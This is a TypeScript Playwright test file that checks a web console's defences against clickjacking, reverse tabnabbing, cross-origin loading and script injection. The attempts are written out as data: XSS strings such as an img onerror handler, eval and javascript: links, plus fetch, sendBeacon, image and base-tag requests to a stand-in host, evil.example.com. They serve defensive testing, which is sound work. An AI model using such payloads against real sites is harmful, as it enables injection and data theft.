import { createServer } from 'node:http';
import { once } from 'node:events';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { Request } from 'playwright-core';
import * as z from 'zod';
import { ConsoleSite } from '../support/browser/console-site.ts';

/** A page of another site. */
const foreign = createServer((request, response) => {
  const frame = decodeURIComponent(request.url?.split('?')[1] ?? '');
  response.setHeader('content-type', 'text/html');
  response.end(`<!doctype html><title>x</title><body>${frame && `<iframe src="${frame}"></iframe>`}`);
});

let site: ConsoleSite;
let foreignPage: string;
beforeAll(async () => {
  site = await ConsoleSite.start();
  await once(foreign.listen(0, '127.0.0.1'), 'listening');
  const { port } = z.object({ port: z.number() }).parse(foreign.address());
  foreignPage = `http://127.0.0.1:${port}/`;
});
afterAll(async () => {
  foreign.close();
  await site.stop();
});

describe('A page of another site', () => {
  test('cannot show the console in a frame (clickjacking)', async () => {
    const page = await site.browser.newPage();
    await page.goto(`${foreignPage}?${encodeURIComponent(site.stack.console)}`);
    const [, frame] = page.frames();
    expect(frame?.url()).toBe('chrome-error://chromewebdata/');
    // Nor can a page of the same origin, such as an answer of the API that a browser shows.
    await page.goto(`${site.stack.api}/health`);
    await page.evaluate(`new Promise((done) => {
      const frame = document.createElement('iframe');
      frame.onload = done;
      frame.src = '/console';
      document.body.append(frame);
    })`);
    expect(page.frames().map((it) => it.url())).toContain('chrome-error://chromewebdata/');
    await page.context().close();
  });

  test('loses the window in which it opens the console (reverse tabnabbing)', async () => {
    const page = await site.browser.newPage();
    await page.goto(foreignPage);
    const opened = page.waitForEvent('popup');
    await page.evaluate(`void (window.other = open(${JSON.stringify(site.stack.console)}))`);
    const popup = await opened;
    await popup.getByRole('button', { name: 'Sign in' }).waitFor();
    expect(await page.evaluate('other.closed')).toBe(true);
    expect(await popup.evaluate('opener')).toBe(null);
    await page.context().close();
  });

  test('cannot load the script or the style of the console', async () => {
    const page = await site.browser.newPage();
    const html = await (await fetch(site.stack.console)).text();
    const [, script = ''] = /src="(console\/[^"]+)"/.exec(html) ?? [];
    await page.goto(foreignPage);
    const result = await page.evaluate(`new Promise((done) => {
      const script = document.createElement('script');
      script.onload = () => done('loaded');
      script.onerror = () => done('refused');
      script.src = ${JSON.stringify(`${site.stack.api}/${script}`)};
      document.body.append(script);
    })`);
    expect([script, result]).toEqual([expect.stringContaining('.js'), 'refused']);
    await page.context().close();
  });
});

/** Ways in which an injected text could run, be shown as HTML, or send something away. None may work. */
const ATTEMPTS = {
  innerHTML: `document.body.innerHTML = '<img src=x onerror=hit=1>'`,
  outerHTML: `document.querySelector('main').outerHTML = '<p>hit</p>'`,
  insertAdjacentHTML: `document.body.insertAdjacentHTML('beforeend', '<p>hit</p>')`,
  'document.write': `document.write('<p>hit</p>')`,
  'a fragment of a range': `document.createRange().createContextualFragment('<p>hit</p>')`,
  'a parsed document': `new DOMParser().parseFromString('<p>hit</p>', 'text/html')`,
  'srcdoc of a frame': `document.createElement('iframe').srcdoc = '<p>hit</p>'`,
  'the text of a script': `document.createElement('script').text = 'hit=1'`,
  'the address of a script': `document.createElement('script').src = '/console/x.js'`,
  'a handler in an attribute': `document.body.setAttribute('onclick', 'hit=1')`,
  eval: `eval('hit=1')`,
  'new Function': `new Function('hit=1')()`,
  'a timer with text': `setTimeout('hit=1')`,
  'a policy for Trusted Types': `trustedTypes.createPolicy('default', { createHTML: (it) => it })`,
  'a worker': `new Worker('data:text/javascript,0')`,
} as const;

describe('The policy of the page in a browser', () => {
  test('stops each way in which a text could become HTML or a script', async () => {
    const console_ = await site.open();
    await console_.signIn('alice');
    console_.expectReports(/Content Security Policy|Trusted/);
    // In a timer of its own: the browser lets a debugger's own code do more.
    const outcomes = await console_.page.evaluate<Record<string, string>>(`Promise.all(
      Object.entries({${Object.entries(ATTEMPTS)
        .map(([name, code]) => `${JSON.stringify(name)}: () => { ${code} }`)
        .join(',')}}).map(([name, attempt]) => new Promise((done) => setTimeout(() => {
          try { attempt(); done([name, 'worked']); } catch (error) { done([name, error.name]); }
        }))),
    ).then(Object.fromEntries)`);
    expect(outcomes).toEqual(
      Object.fromEntries(
        Object.keys(ATTEMPTS).map((name) => [
          name,
          expect.stringMatching(/^(?:TypeError|EvalError|SecurityError)$/),
        ]),
      ),
    );
    await console_.expectOnlyText();
    await console_.close();
  });

  test.each<readonly [what: string, directive: string, code: string]>([
    [
      'an inline script',
      'script-src-elem',
      `const it = document.createElement('script'); it.append('hit=1'); document.body.append(it)`,
    ],
    [
      'a link to a script',
      'script-src-elem',
      `const it = document.createElement('a'); it.href = 'javascript:hit=1'; document.body.append(it); it.click(); it.remove()`,
    ],
    ['an inline style', 'style-src-attr', `document.body.setAttribute('style', 'display: none')`],
    ['a request to another host', 'connect-src', `fetch('https://evil.example.com/').catch(() => 0)`],
    ['a beacon', 'connect-src', `navigator.sendBeacon('https://evil.example.com/', 'x')`],
    ['a picture of another host', 'img-src', `new Image().src = 'https://evil.example.com/?x'`],
    [
      'a form',
      'form-action',
      `const it = document.createElement('form'); it.action = '/v1/tokens'; document.body.append(it); it.submit(); it.remove()`,
    ],
    [
      'a frame',
      'frame-src',
      `const it = document.createElement('iframe'); it.src = '/health'; document.body.append(it)`,
    ],
    [
      'another base of addresses',
      'base-uri',
      `const it = document.createElement('base'); it.href = 'https://evil.example.com/'; document.head.append(it)`,
    ],
    [
      'an object',
      'object-src',
      `const it = document.createElement('object'); it.data = '/health'; document.body.append(it)`,
    ],
  ])('stops %s', async (_what, directive, code) => {
    const console_ = await site.open();
    console_.expectReports(/Content Security Policy|Trusted|evil\.example\.com|Refused/);
    const violated = await console_.page.evaluate(`new Promise((done) => {
      addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective));
      setTimeout(() => { try { ${code} } catch (error) { done(error.name); } });
    })`);
    expect(violated).toMatch(new RegExp(`^(?:${directive}|require-trusted-types-for|TypeError)$`));
    expect(await console_.page.evaluate('window.hit')).toBe(undefined);
    await console_.close();
  });
});

test('The whole page has less than 60 KB as it is sent, and each file is compressed', async () => {
  const page = await site.browser.newPage();
  const requests: Request[] = [];
  page.on('requestfinished', (request) => requests.push(request));
  await page.goto(site.stack.console);
  await page.getByRole('button', { name: 'Sign in' }).waitFor();
  const files = await Promise.all(
    requests.map(async (request) => ({
      name: new URL(request.url()).pathname.replace(/-[0-9a-f]{16}/, ''),
      bytes: (await request.sizes()).responseBodySize,
      coding: await (await request.response())?.headerValue('content-encoding'),
    })),
  );
  await page.context().close();
  const built = files.filter(({ name }) => name !== '/console/config.json');
  expect(built.map(({ name }) => name)).toEqual(
    expect.arrayContaining(['/console', '/console/console.css', '/console/console.js']),
  );
  expect(new Set(built.map(({ coding }) => coding))).toEqual(new Set(['gzip']));
  const bytes = built.reduce((sum, file) => sum + file.bytes, 0);
  expect(bytes).toBeGreaterThan(20_000);
  expect(bytes).toBeLessThan(60_000);
});
